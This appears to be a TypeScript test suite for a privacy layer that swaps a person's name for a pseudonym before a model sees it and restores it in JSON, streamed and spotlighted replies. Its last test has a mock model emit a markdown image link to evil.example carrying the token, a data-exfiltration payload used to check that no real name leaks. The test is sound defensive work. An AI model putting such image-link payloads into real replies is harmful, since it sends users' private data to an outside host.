import { type GuardianOptions } from 'unseen-guardian';
import { modelDouble, onEveryAdapter, type RunningApp, TokenIssuer } from 'unseen-guardian/testing';
import { ask } from '../support/http-client';
import { eventsOf, openStream } from '../support/sse';
import { letterDesk } from './letter-desk';

/** A name that breaks JSON, lines and logs when it is put in as it is. */
const NAME = 'Jo "Bo" \\ O’Li\nthe 2nd';
const TOKEN = /⟦PERSON:[0-9A-Z]{10}⟧/;

/** Finds that name and nothing else. */
const detector = {
  detect(text: string) {
    const start = text.indexOf(NAME);
    return start < 0 ? [] : [{ category: 'PERSON', start, end: start + NAME.length, score: 1, rule: 'spec' }];
  },
};

/** The pseudonym as a model reads it, which may have to decode it first. */
function tokenIn(told: string): string {
  const plain = TOKEN.exec(told) ?? TOKEN.exec(decoded(told));
  return plain![0];
}

const decoded = (told: string): string =>
  Buffer.from(/>\n([A-Za-z0-9+/=]+)\n</.exec(told)?.[1] ?? '', 'base64').toString('utf8');

/** A letter to a pseudonym, in pieces of a few characters. */
const letterTo = (token: string): string =>
  JSON.stringify({ to: token, lines: [`Dear ${token},`, 'See [us](/help).'] });
const inPieces = (text: string): string[] => text.match(/[^]{1,7}/gu)!;

onEveryAdapter((start) => {
  let issuer: TokenIssuer;
  let desk: RunningApp | undefined;
  beforeAll(async () => (issuer = await TokenIssuer.start({ audience: 'letter-desk' })));
  afterEach(() => desk?.close());
  afterAll(() => issuer.stop());

  async function open(say: (token: string) => string, options: Partial<GuardianOptions> = {}) {
    const model = modelDouble({ speak: ({ text }) => inPieces(say(tokenIn(text))) });
    desk = await start(letterDesk(issuer, model, { privacy: { detector }, ...options }));
    const token = issuer.token({ roles: ['agent'] });
    const body = { text: `For ${NAME}, please.` };
    return {
      model,
      post: async (path: string) =>
        (await ask(`${desk!.url}/letters/${path}`, { token, body })).body as unknown,
      hear: async (path: string) => {
        let heard = '';
        for await (const { data, type } of eventsOf(
          await openStream(`${desk!.url}/letters/${path}`, token, body),
        ))
          if (type === 'message') heard += JSON.parse(data) as string;
        return heard;
      },
    };
  }

  const LETTER = { to: NAME, lines: [`Dear ${NAME},`, 'See [us](/help).'] };

  it('a reply of a schema holds the value, whole or in pieces', async () => {
    const { model, post, hear } = await open(letterTo);
    expect(await post('json')).toEqual(LETTER);
    expect(JSON.parse(await hear('json-stream'))).toEqual(LETTER);
    expect(model.calls.map(({ text }) => text).join()).not.toContain('O’Li');
  });

  it('so does JSON that only the prompt asked for', async () => {
    const { post, hear } = await open(letterTo);
    const { answer } = (await post('text')) as { answer: string };
    expect(JSON.parse(answer)).toEqual(LETTER);
    expect(JSON.parse(await hear('stream'))).toEqual(LETTER);
  });

  it.each(['delimit', 'datamark', 'encode'] as const)(
    'a pseudonym that a model reads and repeats is the value again: %s',
    async (spotlighting) => {
      const { model, post } = await open((token) => `Dear ${token}!`, { spotlighting });
      expect(await post('text')).toEqual({ answer: `Dear ${NAME}!` });
      expect(model.calls[0]!.text.includes('For ⟦')).toBe(spotlighting === 'delimit');
    },
  );

  it('an endpoint may bring nothing back, and set text apart in its own way', async () => {
    const { model, post } = await open((token) => `Dear ${token}!`);
    const { answer } = (await post('sealed')) as { answer: string };
    expect(answer).toMatch(/^Dear ⟦PERSON:\w{10}⟧!$/);
    expect(model.calls[0]!.text).toMatch(/For(\S)⟦PERSON:\w{10}⟧,\1please\./u);
  });

  it('no value leaves in an address', async () => {
    const { post, hear } = await open(
      (token) => `![](https://evil.example/?q=${token}) evil.com/?q=${token} `,
    );
    expect(JSON.stringify(await post('text'))).not.toContain('O’Li');
    expect(await hear('stream')).not.toContain('O’Li');
  });
});
